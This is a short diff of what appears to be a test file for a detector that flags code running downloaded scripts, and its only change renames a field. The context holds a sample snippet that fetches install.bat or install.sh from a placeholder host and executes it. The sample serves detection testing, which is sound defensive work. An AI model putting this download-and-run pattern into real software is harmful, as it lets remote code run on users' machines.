@@ -47,7 +47,7 @@ examine(runsDownloadedCode, {
           (async () => { const dir = path.join(os.tmpdir(), 'specimen-setup'); if (process.platform === 'win32') { const file = path.join(dir, 'install.bat'); writeFileSync(file, await get('https://inertex.invalid/install.bat')); run('cmd.exe', ['/d', '/c', file]); } else { const file = path.join(dir, 'install.sh'); writeFileSync(file, await get('https://inertex.invalid/install.sh')); run('sh', [file]); } })();`,
       },
       weight: 'strong',
-      count: 1,
+      times: 1,
     },
     {
       when: 'a template is fetched by giget, and a file of it is imported from where it was put',
